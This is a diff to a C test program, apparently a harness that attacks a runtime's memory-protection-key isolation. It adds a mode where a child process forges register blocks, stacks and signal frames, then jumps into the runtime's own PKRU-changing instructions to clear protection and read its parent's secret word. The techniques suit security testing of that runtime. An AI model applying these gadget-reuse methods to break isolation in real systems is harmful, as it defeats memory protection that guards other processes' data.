@@ -35,6 +35,19 @@
  *                        each one but its block: one line per stack, "N
  *                        pages writable from offset X", SIGSEGV caught;
  *                        then wakes the thread ("waiter: read 1")
+ *   iso_attack gadget KIND ADDR
+ *                        a child jumps into the runtime's text at ADDR
+ *                        (hex, from nm), where an instruction changes PKRU,
+ *                        with registers and stack of its choosing, so as to
+ *                        come back with another PKRU; then reads its
+ *                        parent's word (exit 42 if it could).  KIND says
+ *                        what is at ADDR: exit (the way out of a syscall:
+ *                        PKRU from r8 + 168), restorer (rt_sigreturn of a
+ *                        frame whose XSAVE area says PKRU 0), open (the
+ *                        WRPKRU 0 of runtime threads, returning to the
+ *                        child), xrstor (a stray XRSTOR, mask all ones,
+ *                        image with PKRU 0).  Prints "gadget KIND: " and
+ *                        the child's fate.
  *   iso_attack read ADDR   read the word at ADDR (hex) and print it
  *   iso_attack write ADDR  write the word at ADDR
  *   iso_attack sys ADDR    write(2) 8 bytes from ADDR to a pipe; prints the
@@ -299,6 +312,76 @@ static pid_t child(int write_it)
 	return pid;
 }
 
+static volatile unsigned long *parent_word;
+static unsigned long gadget_stack[4096] __attribute__((aligned(16)));
+static unsigned long fake_regs[29], fake_block[32];
+static ucontext_t fake_uc;
+static unsigned char fake_fp[16384] __attribute__((aligned(64)));
+
+static void after_gadget(void)
+{
+	_exit(*parent_word == 0x5ec2e7 ? 42 : 43);
+}
+
+/* SIGUSR1: a copy of the frame (ucontext, XSAVE area) that resumes at
+ * after_gadget with PKRU 0, for the restorer and xrstor gadgets */
+static void grab(int sig, siginfo_t *si, void *ucv)
+{
+	(void)sig;
+	(void)si;
+	ucontext_t *uc = ucv;
+	uint32_t size = 0;
+	memcpy(&size, (char *)uc->uc_mcontext.fpregs + 464 + 4, 4);	/* extended_size */
+	if (size > sizeof fake_fp)
+		_exit(3);
+	memcpy(fake_fp, uc->uc_mcontext.fpregs, size);
+	fake_uc = *uc;
+	fake_uc.uc_mcontext.fpregs = (void *)fake_fp;
+	fake_uc.uc_mcontext.gregs[REG_RIP] = (uintptr_t)after_gadget;
+	fake_uc.uc_mcontext.gregs[REG_RSP] = (uintptr_t)&gadget_stack[4000] - 8;
+	fake_uc.uc_mcontext.gregs[REG_CSGSFS] = 0x002b000000000033;
+	unsigned a, b, c, d;
+	if (__get_cpuid_count(0xd, 9, &a, &b, &c, &d) && a && b + 4 <= size) {
+		memset(fake_fp + b, 0, 4);	/* PKRU := 0 */
+		fake_fp[512 + 1] |= 2;		/* XSTATE_BV bit 9 */
+	}
+}
+
+static void gadget(const char *kind, uintptr_t addr)
+{
+	struct sigaction sa;
+	memset(&sa, 0, sizeof sa);
+	sa.sa_sigaction = grab;
+	sa.sa_flags = SA_SIGINFO;
+	sigaction(SIGUSR1, &sa, NULL);
+	raise(SIGUSR1);
+	uintptr_t top = (uintptr_t)&gadget_stack[4000];
+	if (!strcmp(kind, "exit")) {
+		/* popped: r8..rcx, 9 skipped words, then rip cs rflags rsp ss */
+		fake_regs[24] = (uintptr_t)after_gadget;
+		fake_regs[25] = 0x33;
+		fake_regs[26] = 0x202;
+		fake_regs[27] = top - 8;
+		fake_regs[28] = 0x2b;
+		fake_block[21] = 1;	/* r8 + 168: PKRU with key 0 only denied */
+		__asm__ volatile("mov %0, %%rsp\n\tmov %1, %%r8\n\tjmp *%2"
+				 : : "a"(fake_regs), "c"((uintptr_t)fake_block), "d"(addr) : "memory");
+	} else if (!strcmp(kind, "restorer")) {
+		__asm__ volatile("mov %0, %%rsp\n\tjmp *%1" : : "a"(&fake_uc), "d"(addr) : "memory");
+	} else if (!strcmp(kind, "open")) {
+		gadget_stack[4000 - 1] = (uintptr_t)after_gadget;
+		__asm__ volatile("mov %0, %%rsp\n\tjmp *%1"
+				 : : "a"(top - 8), "c"(addr) : "memory");
+	} else if (!strcmp(kind, "xrstor")) {
+		/* xrstor 0x40(%rsp) then registers from the stack, jmp *%r11 */
+		memcpy((char *)gadget_stack + 0x40, fake_fp, 4096);
+		__asm__ volatile("mov %0, %%rsp\n\tmov %1, %%r11\n\tmov $-1, %%eax\n\t"
+				 "mov $-1, %%edx\n\tmov %%rsp, %%rbx\n\tjmp *%2"
+				 : : "c"(gadget_stack), "S"(after_gadget), "D"(addr) : "memory");
+	}
+	_exit(2);
+}
+
 static sigjmp_buf probe_env;
 static void probe_fault(int sig)
 {
@@ -362,6 +445,28 @@ int main(int argc, char **argv)
 {
 	if (argc == 2 && !strcmp(argv[1], "altstack"))
 		return altstack_attack();
+	if (argc == 4 && !strcmp(argv[1], "gadget")) {
+		uintptr_t here = (uintptr_t)&secret;
+		int fd[2];
+		if (pipe(fd) < 0)
+			return 1;
+		pid_t pid = fork();
+		if (pid == 0) {
+			char buf[32] = { 0 };
+			close(fd[1]);
+			if (read(fd[0], buf, sizeof buf - 1) <= 0)
+				_exit(2);
+			parent_word = (void *)strtoul(buf, NULL, 16);
+			gadget(argv[2], strtoul(argv[3], NULL, 16));
+		}
+		close(fd[0]);
+		dprintf(fd[1], "%lx", (unsigned long)here);
+		close(fd[1]);
+		char what[64];
+		snprintf(what, sizeof what, "gadget %s", argv[2]);
+		fate(what, pid);
+		return 0;
+	}
 	if (argc == 2 && !strcmp(argv[1], "peer")) {
 		fate("reader", child(0));
 		fate("writer", child(1));
@@ -395,6 +500,6 @@ int main(int argc, char **argv)
 			printf("%#lx\n", *p);
 		return 0;
 	}
-	fprintf(stderr, "usage: iso_attack peer | race | altstack | read ADDR | write ADDR | sys ADDR\n");
+	fprintf(stderr, "usage: iso_attack peer | race | altstack | gadget KIND ADDR | read ADDR | write ADDR | sys ADDR\n");
 	return 2;
 }
